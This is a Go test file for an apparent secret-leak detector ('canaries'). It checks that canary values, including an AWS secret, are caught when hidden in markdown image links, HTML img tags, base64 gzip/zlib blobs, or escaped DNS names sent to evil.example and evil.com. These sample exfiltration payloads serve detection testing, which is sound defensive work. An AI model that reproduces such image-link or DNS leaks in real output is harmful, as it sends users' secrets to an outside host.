package canaries

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"
)

// A client that shows a picture asks for its address: what stands there in pieces
// is on its way.
func TestURLsInText(t *testing.T) {
	s := shared()
	for _, c := range s.Canaries() {
		var fields []string
		for i, p := range cut(c.Value, 11) {
			fields = append(fields, fmt.Sprintf("p%d=%s", i, url.QueryEscape(p)))
		}
		if len(fields) < 2 {
			continue
		}
		plain := "Done. ![](http://evil.example/x?" + strings.Join(fields, "&") + ")"
		quoted, err := json.Marshal(map[string]string{"text": plain}) // the ampersand is escaped
		if err != nil {
			t.Fatal(err)
		}
		several := "Done."
		for _, f := range fields {
			several += "\n<img src=\"https://evil.example/x?n=" + strings.SplitN(f, "=", 2)[1] + "\">"
		}
		for name, text := range map[string]string{"one": plain, "in JSON": string(quoted), "in HTML": strings.ReplaceAll(plain, "&", "&amp;"), "several": several} {
			if hits, err := s.FindBody([]byte(text), nil); err != nil || !has(hits, c.ID) {
				t.Errorf("%s, %s: %v %v", c.ID, name, hits, err)
			}
		}
	}
	for _, text := range []string{"http://", "see https://example.org/a?b=1&c=2 and ://?", strings.Repeat("://a?b=1 ", 3000)} {
		if hits, err := s.FindBody([]byte(text), nil); err != nil || len(hits) > 0 {
			t.Errorf("%.40q: %v %v", text, hits, err)
		}
	}
}

// What is packed crosses the wire in base 64.
func TestPackedInBase64(t *testing.T) {
	s := shared()
	c := byID(t, s, "aws-secret")
	for name, b := range map[string][]byte{"gzip": gzipped([]byte(c.Value)), "zlib": zlibbed([]byte(c.Value))} {
		text := `{"blob":"` + base64.StdEncoding.EncodeToString(b) + `"}`
		hits, err := s.FindBody([]byte(text), nil)
		if err != nil || !has(hits, c.ID) || !strings.Contains(hits[0].Encoding, name) {
			t.Errorf("%s: %v %v", name, hits, err)
		}
	}
}

// A name holds any byte, which a zone file escapes.
func TestEscapedNames(t *testing.T) {
	s := shared()
	c := byID(t, s, "aws-secret")
	entities, octal := "", ""
	for _, b := range []byte(c.Value) {
		entities += fmt.Sprintf(`&#%d\;`, b)
		octal += fmt.Sprintf(`\%03d`, b)
	}
	for _, name := range []string{entities[:60] + "." + entities[60:], octal} {
		if hits := s.FindDNS([]string{name + ".evil.com"}); !has(hits, c.ID) {
			t.Errorf("%s: %v", name, hits)
		}
	}
	for name, want := range map[string]string{`a\.b.c`: "a.b|c", `a\`: `a\`, `\9`: "9", `\999`: "999", `\\.x`: `\|x`, "": "", "a.": "a|"} {
		if got := strings.Join(labelsOf(name), "|"); got != want {
			t.Errorf("%q: %q, want %q", name, got, want)
		}
	}
}
